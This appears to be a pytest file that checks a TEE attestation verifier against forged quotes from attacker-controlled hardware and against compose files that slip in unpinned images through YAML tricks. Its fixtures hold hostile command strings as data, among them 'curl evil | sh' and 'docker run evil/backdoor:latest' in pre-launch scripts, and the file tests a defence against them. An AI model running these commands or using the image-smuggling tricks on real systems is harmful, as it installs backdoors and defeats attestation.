"""Evidence that is genuine, and not of the enclave it is shown for: an attacker's own machine, in front of his own key.

He has genuine hardware and writes all the software on it: firmware, registers, what the host was told to run, and the
report data are his. So he names any key and shows any compose file. An honest enclave stands beside each attack.
"""

from __future__ import annotations

import hashlib
import json
import struct
from collections.abc import Iterator
from dataclasses import dataclass, field
from datetime import UTC, datetime
from typing import Any

import pytest

from tests.zg_core.verify.scene import service
from zg_core import ChatClient
from zg_core.errors import VerificationUnavailable
from zg_core.localnet import LocalNet
from zg_core.localnet.base.keys import Key
from zg_core.localnet.hardware import attestation as hardware
from zg_core.localnet.hardware.platform import Maker
from zg_core.types import Kind
from zg_core.verify.attestation import AttestationOptions, AttestationReport, Collateral, Evidence, Outcome, examine

pytest.importorskip("dcap_qvl")

NOW = 1_780_000_000
THIEF = Key("0x" + "77" * 32)  # a key in a file on the attacker's laptop, in no enclave
GOOD = "nearai/private-ml@sha256:" + "ab" * 32
TRUSTED = json.dumps({"runner": "docker-compose", "docker_compose_file": f"services:\n  a:\n    image: {GOOD}\n"})


@dataclass
class Attacker:
    """Makes quotes on a machine that the maker of the hardware vouches for."""

    maker: Maker = field(default_factory=lambda: Maker(NOW))

    def __post_init__(self) -> None:
        self.machine = self.maker.platform()

    def quote(self, compose: str, signer: str, *, system: str = "attacker's own", honest_system: bool = False) -> bytes:
        """A report that shows `compose` as measured, and names `signer`."""
        measured = hashlib.sha256(compose.encode()).digest()
        events = hardware.event_log(measured)
        if not honest_system:
            for event in events[:3]:
                event["digest"] = hashlib.sha384(f"{system} {event['imr']}".encode()).hexdigest()
        firmware = bytes.fromhex(hardware.os_image()[0]) if honest_system else hashlib.sha384(system.encode()).digest()
        body = b"".join(
            (
                struct.pack("<HHI", 4, 2, 0x81)
                + bytes(4)
                + bytes.fromhex("939a7233f79c4ca9940a0db3957f0607")
                + bytes(20),
                bytes(16) + bytes(48) + bytes(48) + bytes(8),
                bytes.fromhex("0000001000000000") + bytes(8),
                firmware,
                (b"\x01" + measured).ljust(48, b"\0") + bytes(96),
                *(hardware.replay(events, register) for register in range(4)),
                hardware.legacy_report_data(signer),
            )
        )
        report = {"quote": self.machine.sign(body).hex(), "event_log": json.dumps(events)}
        return json.dumps(report | {"tcb_info": json.dumps({"app_compose": compose})}).encode()

    def examined(self, report: bytes, signer: str, level: int = 3, **options: Any) -> AttestationReport:
        """What a verifier says who believes in this hardware."""
        return examine(
            service(Kind.TEE_ML, tee_signer=signer),
            {"broker": Evidence.parse(report)},
            level=level,
            now=datetime.fromtimestamp(NOW, UTC),
            options=AttestationOptions(root=self.maker.root, **options),
            collateral={"broker": Collateral.parse(self.machine.collateral)},
        )


@pytest.fixture(scope="module")
def attacker() -> Attacker:
    return Attacker()


HASH = hashlib.sha256(TRUSTED.encode()).hexdigest()
HONEST_IMAGE = hardware.os_image()
DEMANDS: dict[str, dict[str, Any]] = {
    "nothing said": {},
    "the compose file": {"compose_hashes": [HASH]},
    "everything pinned": {"require_pinned": True},
    "both": {"compose_hashes": ["0x" + HASH.upper()], "require_pinned": True},
    "the OS image": {"os_images": [HONEST_IMAGE]},
    "all of it": {"compose_hashes": [HASH], "require_pinned": True, "os_images": [HONEST_IMAGE]},
    "no OS image at all": {"os_images": []},
}


@pytest.mark.parametrize("name", DEMANDS)
def test_a_machine_of_the_attackers_own_shows_nothing_at_level_3(attacker: Attacker, tally: Any, name: str) -> None:
    report = attacker.examined(attacker.quote(TRUSTED, THIEF.address), THIEF.address, **DEMANDS[name])
    assert report.satisfies(2), "it is genuine hardware, and names the key: that is all that level 2 says"
    assert not report.satisfies(3)
    said = "os_images" in DEMANDS[name]
    assert report.outcome(3) is (Outcome.FAIL if said else Outcome.UNAVAILABLE), report.explain()
    tally("attestation borrowed from another machine", tried=1, caught=1)


@pytest.mark.parametrize("name", [name for name in DEMANDS if name not in ("nothing said", "no OS image at all")])
def test_an_honest_system_that_measured_it_shows_it(attacker: Attacker, name: str) -> None:
    demands = {**DEMANDS[name], "os_images": [HONEST_IMAGE]}
    report = attacker.examined(attacker.quote(TRUSTED, THIEF.address, honest_system=True), THIEF.address, **demands)
    assert report.satisfies(3), report.explain()


@pytest.mark.parametrize("part", range(3))
def test_every_part_of_the_image_counts(attacker: Attacker, part: int) -> None:
    image = list(HONEST_IMAGE)
    image[part] = hashlib.sha384(b"another").hexdigest()
    report = attacker.examined(
        attacker.quote(TRUSTED, THIEF.address, honest_system=True), THIEF.address, os_images=[tuple(image)]
    )
    assert report.outcome(3) is Outcome.FAIL


def beside(text: str) -> str:
    return f"services:\n  a:\n    image: {GOOD}\n  b:\n    {text}\n"


UNPINNED: dict[str, Any] = {
    "escaped key": beside('"im\\x61ge": evil/backdoor:latest'),
    "another escaped key": beside('"\\u0069mage": evil/backdoor:latest'),
    "block scalar": beside("image: >-\n      evil/backdoor:latest"),
    "explicit key": beside("? image\n    : evil/backdoor:latest"),
    "tag": beside("image: !!str evil/backdoor:latest"),
    "anchor": f"x: &i evil/backdoor:latest\n{beside('image: *i')}",
    "anchor on the value": beside("image: &i evil/backdoor:latest"),
    "merge": f"x-b: &b {{image: evil/backdoor}}\n{beside('<<: *b')}",
    "flow": f'{{"services": {{"a": {{"image": "{GOOD}"}}, "b": {{"image": "evil"}}}}}}',
    "extends": beside("extends: {file: https://evil/x.yml, service: s}"),
    "include": f"include: [oci://evil/backdoor:latest]\n{beside(f'image: {GOOD}')}",
    "variable": beside("image: ${X:-evil/backdoor}"),
    "digest in a comment": beside(f"image: evil/backdoor:latest #@sha256:{'ab' * 32}"),
    "second document": f"{beside(f'image: {GOOD}')}---\nservices: {{b: {{image: evil}}}}\n",
    "same key twice": f"{beside(f'image: {GOOD}')}services: {{b: {{image: evil}}}}\n",
    "build": beside(f"image: {GOOD}\n    build: ."),
    "plain": beside("image: evil/backdoor:latest"),
    "no image": beside("command: serve"),
}
AROUND: dict[str, Any] = {
    "another runner": {"runner": "bash", "bash_script": "curl evil | sh"},
    "another runner beside a good file": {**json.loads(TRUSTED), "runner": "nerdctl-compose"},
    "a script before": {**json.loads(TRUSTED), "pre_launch_script": "docker run evil/backdoor:latest"},
    "a script at the start": {**json.loads(TRUSTED), "init_script": ["docker run evil/backdoor:latest"]},
    "the file as an object": {**json.loads(TRUSTED), "docker_compose_file": {"services": {"a": {"image": "evil"}}}},
    "no file": {"runner": "docker-compose"},
    "Compose steered from outside": {**json.loads(TRUSTED), "allowed_envs": ["COMPOSE_FILE"]},
}
COMPOSES = {
    **{name: json.dumps({**json.loads(TRUSTED), "docker_compose_file": text}) for name, text in UNPINNED.items()},
    **{name: json.dumps(value) for name, value in AROUND.items()},
    "not JSON": "not json",
}


@pytest.mark.parametrize("name", COMPOSES)
def test_what_is_not_pinned_is_not_taken_for_it(attacker: Attacker, tally: Any, name: str) -> None:
    """An honest system measured the file; only what is in it is in question."""
    report = attacker.quote(COMPOSES[name], THIEF.address, honest_system=True)
    strict = attacker.examined(report, THIEF.address, os_images=[HONEST_IMAGE], require_pinned=True)
    assert strict.outcome(3) is Outcome.FAIL
    loose = attacker.examined(report, THIEF.address, os_images=[HONEST_IMAGE])
    assert loose.satisfies(3), "nothing else is wrong"
    assert loose.find("loose")
    tally("compose file that pins nothing", tried=1, caught=1)


@pytest.fixture(scope="module")
def own_net() -> Iterator[LocalNet]:
    with LocalNet(providers=1) as network:
        network.open_account(network.wallet, network.providers[0], 10 * 10**18)
        yield network


class TestClients:
    """The same through a client: no prompt leaves for it."""

    def test_no_prompt_leaves_while_nobody_said_what_to_believe(self, own_net: LocalNet, tally: Any) -> None:
        net, provider = own_net, own_net.providers[0]
        question = {"messages": [{"role": "user", "content": "What is the capital of France?"}]}
        settings = {"provider": provider.address, "private_key": net.wallet.private_key, "network": "local"}
        settings |= {"rpc_url": net.rpc_url, "environ": {}}
        hardware_alone = AttestationOptions(root=net.attestation_root, pccs_url=net.pccs_url)
        with ChatClient(**settings, attest=3, attestation=hardware_alone) as client:
            with pytest.raises(VerificationUnavailable, match="os_images") as caught:
                client.create(question)
            assert caught.value.code == "attestation_unavailable"
        assert not any(request.path.endswith("/chat/completions") for request in provider.requests)
        believed = AttestationOptions(
            root=net.attestation_root, pccs_url=net.pccs_url, os_images=frozenset({net.os_image})
        )
        with ChatClient(**settings, attest=3, attestation=believed) as client:
            assert client.create(question).receipt.attestation["level"] == 3
        tally("attestation at level 3 without an OS image", tried=1, caught=1)
